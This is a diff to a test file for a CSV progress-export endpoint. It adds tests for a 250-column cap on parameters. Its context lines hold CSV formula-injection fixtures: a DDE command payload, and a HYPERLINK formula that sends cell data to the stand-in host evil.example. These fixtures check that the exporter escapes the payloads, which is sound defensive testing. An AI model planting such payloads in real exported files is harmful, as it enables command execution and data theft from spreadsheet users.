@@ -162,6 +162,9 @@ const EXPECTED_QUOTING =
   `"{""a,b"":""x"",""at"":""@SUM(A1)"",""city"":""Zürich 東京 🚀"",""formula"":""=cmd|' /C calc'!A0"",""list"":""a,b,c"",""neg"":""-5"",""note"":""line one\\nline two"",""quote"":""say \\""hi\\"""",""tab"":""\\tx""}",` +
   `x,'@SUM(A1),Zürich 東京 🚀,'=cmd|' /C calc'!A0,"a,b,c",'-5,"line one\nline two","say ""hi""",'\tx\r\n`;
 
+// More keys than MAX_PARAM_COLUMNS (250), as a visitor adding parameters to an invite URL could.
+const MANY_PARAMETERS = Object.fromEntries(Array.from({ length: 260 }, (_, i) => [`k${String(i).padStart(3, "0")}`, `v${i}`]));
+
 let session: ReturnType<typeof withSession>;
 
 beforeAll(async () => {
@@ -180,6 +183,16 @@ beforeAll(async () => {
   });
   await deliver(nasty.trackStarted().build(), 7);
   await enrich("expc_uq", '=HYPERLINK("http://evil.example/?"&A1,"click")', 'O"Brien, Jr.', "-dash@example.com");
+
+  const crowded = new PlayBuilder({
+    trackId: "trk_expc_c",
+    trackSlug: "export-many-params",
+    participantId: "expc_m1",
+    userId: "expc_um",
+    customParameters: MANY_PARAMETERS,
+    start: "2024-03-03T08:00:00Z",
+  });
+  await deliver(crowded.trackStarted().build(), 11);
 });
 
 const today = () => new Date().toISOString().slice(0, 10);
@@ -211,6 +224,25 @@ describe("GET /api/export/progress.csv", () => {
     const bytes = new Uint8Array(await response.arrayBuffer());
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes.slice(3))).toBe(EXPECTED_PROGRESS);
+  });
+
+  it("stops at 250 param columns and says how many keys it left out; the JSON keeps them all", async () => {
+    const response = await session(`${baseUrl}/api/export/progress.csv?track=export-many-params`);
+    expect(response.headers.get("x-cairn-omitted-param-columns")).toBe("10");
+    const [header, record] = (await response.text()).split("\r\n");
+    const params = header!.split(",").filter((name) => name.startsWith("param_"));
+    expect(params).toHaveLength(250);
+    expect(params[0]).toBe("param_k000");
+    expect(params.at(-1)).toBe("param_k249");
+    expect(record).toContain(`"{""k000"":""v0"",`);
+    expect(record).toContain(`""k259"":""v259""}",v0,v1,v2,`);
+    expect(record!.endsWith(",v248,v249")).toBe(true);
+  });
+
+  it("says nothing about omitted columns when none were", async () => {
+    const response = await session(`${baseUrl}/api/export/progress.csv?track=trk_expc_a`);
+    expect(response.headers.get("x-cairn-omitted-param-columns")).toBeNull();
+    await response.body?.cancel();
   });
 
   it("a filter that matches nothing gives the header only, without param columns", async () => {
